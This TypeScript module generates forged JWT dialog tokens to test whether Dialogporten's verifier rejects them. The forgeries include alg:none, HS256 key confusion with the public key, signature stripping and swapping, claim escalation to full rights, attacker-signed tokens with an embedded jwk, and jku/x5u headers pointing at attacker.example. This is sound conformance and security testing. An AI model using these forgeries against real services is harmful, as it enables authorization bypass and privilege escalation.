import { decodeBytes, decodeText, encodeBytes, encodeText, utf8 } from "../shared/base64url";

/**
 * Token mutators: what an attacker (or a buggy client) does to a real dialog token between step 3 and
 * step 4. Pure functions of their inputs, Web Crypto only, so they run in Node tests and in the browser.
 * None of them holds a key Dialogporten trusts: whatever they sign, they sign with the attacker's own key.
 */

export type TokenParts = [header: string, payload: string, signature: string];

export function splitToken(token: string): TokenParts {
  const [h = "", p = "", s = ""] = token.split(".");
  return [h, p, s];
}

/** The decoded JSON of a token part, or null when it does not decode. */
export function decodePart(part: string): unknown {
  const text = decodeText(part);
  if (text === null) return null;
  try {
    return JSON.parse(text) as unknown;
  } catch {
    return null;
  }
}

export const encodeJson = (value: unknown): string => encodeText(JSON.stringify(value));

const objectOf = (part: string): Record<string, unknown> => {
  const v = decodePart(part);
  return v !== null && typeof v === "object" && !Array.isArray(v) ? (v as Record<string, unknown>) : {};
};

export const headerOf = (token: string) => objectOf(splitToken(token)[0]);
export const claimsOf = (token: string) => objectOf(splitToken(token)[1]);

/** What an attacker wants a token to say: every action and the highest level. */
export function escalated(claims: Record<string, unknown>): Record<string, unknown> {
  return { ...claims, l: 4, a: "delete,urn:altinn:task:Task_1;read;sign,urn:altinn:task:Task_2;write" };
}

/**
 * Changes exactly one byte of the payload's JSON and keeps the signature: `"l":3` becomes `"l":4` (any
 * level one up, 9 wraps to 8), or, without an `l`, the last character of `jti`.
 */
export function changeOneByte(token: string): string {
  const [h, p, s] = splitToken(token);
  const text = decodeText(p) ?? "";
  const level = /"l":(\d)/.exec(text);
  let changed: string;
  if (level) {
    const i = level.index + 4;
    const d = Number(text[i]);
    changed = text.slice(0, i) + String(d === 9 ? 8 : d + 1) + text.slice(i + 1);
  } else {
    const jti = /"jti":"[^"]*([0-9a-f])"/.exec(text);
    const i = jti ? jti.index + jti[0].length - 2 : 0;
    changed = text.slice(0, i) + (text[i] === "0" ? "1" : "0") + text.slice(i + 1);
  }
  return `${h}.${encodeText(changed)}.${s}`;
}

/** `header.payload.`: the signature cut off, the dot kept (an "unsecured" JWS). */
export function stripSignature(token: string): string {
  const [h, p] = splitToken(token);
  return `${h}.${p}.`;
}

/** The header and payload of one token with the signature of another. */
export function spliceSignature(token: string, donor: string): string {
  const [h, p] = splitToken(token);
  return `${h}.${p}.${splitToken(donor)[2]}`;
}

/** `alg: none` with escalated claims and an empty signature (RFC 7519 §6.1, the unsecured JWT). */
export function algNone(token: string): string {
  return `${encodeJson({ ...headerOf(token), alg: "none" })}.${encodeJson(escalated(claimsOf(token)))}.`;
}

async function signWith(algorithm: AlgorithmIdentifier, key: CryptoKey, header: Record<string, unknown>, claims: Record<string, unknown>): Promise<string> {
  const input = `${encodeJson(header)}.${encodeJson(claims)}`;
  const signature = new Uint8Array(await crypto.subtle.sign(algorithm, key, utf8(input)));
  return `${input}.${encodeBytes(signature)}`;
}

export interface PublicJwk {
  kid?: string;
  x?: string;
}

/**
 * Key confusion (CVE-2015-9235 and its many siblings): HS256 with the verifier's *public* key bytes as the
 * HMAC secret. A verifier that takes `alg` from the token and hands "the key for this kid" to HMAC accepts it.
 */
export async function hs256WithPublicKey(token: string, jwks: { keys: readonly PublicJwk[] }): Promise<string> {
  const header = headerOf(token);
  const jwk = jwks.keys.find((k) => k.kid === header.kid) ?? jwks.keys[0];
  const secret = decodeBytes(jwk?.x ?? "") ?? new Uint8Array(32);
  const key = await crypto.subtle.importKey("raw", secret, { name: "HMAC", hash: "SHA-256" }, false, ["sign"]);
  return signWith({ name: "HMAC" }, key, { ...header, alg: "HS256" }, escalated(claimsOf(token)));
}

let rsaKey: Promise<CryptoKeyPair> | undefined;
let edKey: Promise<CryptoKeyPair> | undefined;

/** The attacker's RSA key, made once per process (2048-bit generation takes a moment). */
export function attackerRsaKey(): Promise<CryptoKeyPair> {
  rsaKey ??= crypto.subtle.generateKey({ name: "RSASSA-PKCS1-v1_5", modulusLength: 2048, publicExponent: new Uint8Array([1, 0, 1]), hash: "SHA-256" }, true, [
    "sign",
    "verify",
  ]);
  return rsaKey;
}

/** The attacker's own Ed25519 key pair: a perfectly good key, just not one Dialogporten published. */
export function attackerEd25519Key(): Promise<CryptoKeyPair> {
  edKey ??= crypto.subtle.generateKey({ name: "Ed25519" }, true, ["sign", "verify"]) as Promise<CryptoKeyPair>;
  return edKey;
}

/** Escalated claims, RS256-signed by the attacker's RSA key under the sandbox's kid. */
export async function rs256(token: string): Promise<string> {
  const { privateKey } = await attackerRsaKey();
  return signWith({ name: "RSASSA-PKCS1-v1_5" }, privateKey, { ...headerOf(token), alg: "RS256" }, escalated(claimsOf(token)));
}

export const ATTACKER_KID = "attacker-2026";
export const ATTACKER_JKU = "https://attacker.example/.well-known/jwks.json";
export const ATTACKER_X5U = "https://attacker.example/cert.pem";

export interface AttackerSigning {
  /** Header members to set; `undefined` removes one (e.g. `{ kid: undefined }`). */
  header?: Record<string, unknown>;
  /** Claims to use instead of the escalated ones. */
  claims?: Record<string, unknown>;
}

/** A valid EdDSA signature — by the attacker's own Ed25519 key — over the escalated claims. */
export async function attackerSigned(token: string, opts: AttackerSigning = {}): Promise<string> {
  const { privateKey } = await attackerEd25519Key();
  const header = Object.fromEntries(Object.entries({ ...headerOf(token), alg: "EdDSA", ...opts.header }).filter(([, v]) => v !== undefined));
  return signWith({ name: "Ed25519" }, privateKey, header, opts.claims ?? escalated(claimsOf(token)));
}

/** The attacker's public key as a JWK, to embed in a `jwk` header (RFC 7515 §4.1.3). */
export async function attackerPublicJwk(): Promise<JsonWebKey & { kid: string }> {
  const { publicKey } = await attackerEd25519Key();
  const jwk = await crypto.subtle.exportKey("jwk", publicKey);
  return { kty: jwk.kty, crv: jwk.crv, x: jwk.x, kid: ATTACKER_KID };
}

/** Self-signed with the attacker's key, which the header itself carries ("trust the key I brought"). */
export async function embeddedJwk(token: string): Promise<string> {
  return attackerSigned(token, { header: { kid: ATTACKER_KID, jwk: await attackerPublicJwk() } });
}

/** Signed by the attacker, with a header pointing at the attacker's key set (`jku`) or certificate (`x5u`). */
export function keyUrlHeader(token: string, member: "jku" | "x5u"): Promise<string> {
  return attackerSigned(token, { header: { kid: ATTACKER_KID, [member]: member === "jku" ? ATTACKER_JKU : ATTACKER_X5U } });
}

/** A claim `pad` makes the token `size` characters long; the signature stays (it no longer matches). */
export function padded(token: string, size: number): string {
  const [h, , s] = splitToken(token);
  const claims = claimsOf(token);
  const bare = `${h}.${encodeJson({ ...claims, pad: "" })}.${s}`.length;
  // base64url turns 3 bytes into 4 characters.
  const pad = "x".repeat(Math.max(0, Math.ceil(((size - bare) * 3) / 4)));
  return `${h}.${encodeJson({ ...claims, pad })}.${s}`;
}

/** Standard base64 where base64url belongs: one `-`/`_`-position character of the payload becomes `+`. */
export function notBase64url(token: string): string {
  const [h, p, s] = splitToken(token);
  const i = Math.min(8, Math.max(0, p.length - 1));
  return `${h}.${p.slice(0, i)}+${p.slice(i + 1)}.${s}`;
}

/** Valid JSON, but an array holding the claims instead of the claims object. */
export function payloadNotObject(token: string): string {
  const [h, , s] = splitToken(token);
  return `${h}.${encodeJson([claimsOf(token)])}.${s}`;
}

/**
 * What a mutation may need besides the token. Each is fetched only when a mutation asks for it, so the
 * caller can make every extra call a traced exchange (the catalogue) or a call to the mint API (conformance).
 */
export interface MutationContext {
  /** A second genuine token from the same issuer and key, whose signature gets spliced on. */
  donorToken(): Promise<string>;
  /** Dialogporten's public key set, as anyone can fetch it. */
  publicJwks(): Promise<{ keys: readonly PublicJwk[] }>;
  /** The end-user system's own access token, sent in place of the dialog token. */
  accessToken(): Promise<string>;
}

export type Mutator = (token: string, context: MutationContext) => string | Promise<string>;

/** A kid Dialogporten never published, in its own format. */
export const UNKNOWN_KID = "dp-sandbox-261129-zzzzz";

/**
 * Every mutation the catalogue and the conformance runner know, by name. A new mutation is one entry
 * here; `MutationName` follows from the keys, so a recipe cannot name one that does not exist.
 */
const table = {
  "change-one-byte": (t) => changeOneByte(t),
  "strip-signature": (t) => stripSignature(t),
  "swap-signature": async (t, c) => spliceSignature(t, await c.donorToken()),
  "alg-none": (t) => algNone(t),
  "alg-hs256-public-key": async (t, c) => hs256WithPublicKey(t, await c.publicJwks()),
  "alg-rs256": (t) => rs256(t),
  "drop-kid": (t) => attackerSigned(t, { header: { kid: undefined } }),
  "unknown-kid": (t) => attackerSigned(t, { header: { kid: UNKNOWN_KID } }),
  "attacker-key": (t) => attackerSigned(t),
  "embedded-jwk": (t) => embeddedJwk(t),
  "jku-header": (t) => keyUrlHeader(t, "jku"),
  "x5u-header": (t) => keyUrlHeader(t, "x5u"),
  "access-token": (_t, c) => c.accessToken(),
  "pad-12k": (t) => padded(t, 12 * 1024),
  "pad-64k": (t) => padded(t, 64 * 1024),
  "not-base64url": (t) => notBase64url(t),
  "payload-not-object": (t) => payloadNotObject(t),
} satisfies Record<string, Mutator>;

export type MutationName = keyof typeof table;
export const MUTATIONS: Readonly<Record<MutationName, Mutator>> = table;
